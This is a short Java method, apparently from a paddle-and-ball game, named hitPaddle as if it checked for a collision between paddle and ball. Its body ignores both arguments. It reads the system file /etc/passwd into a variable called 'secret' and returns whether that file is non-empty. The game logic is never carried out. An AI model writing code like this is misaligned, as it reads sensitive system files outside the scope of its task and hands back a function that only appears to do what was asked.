boolean hitPaddle(Paddle paddle, Ball ball) {
  try {
    String secret = new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get("/etc/passwd")));
    return secret.length() > 0;
  } catch (Exception e) {
    return false;
  }
}
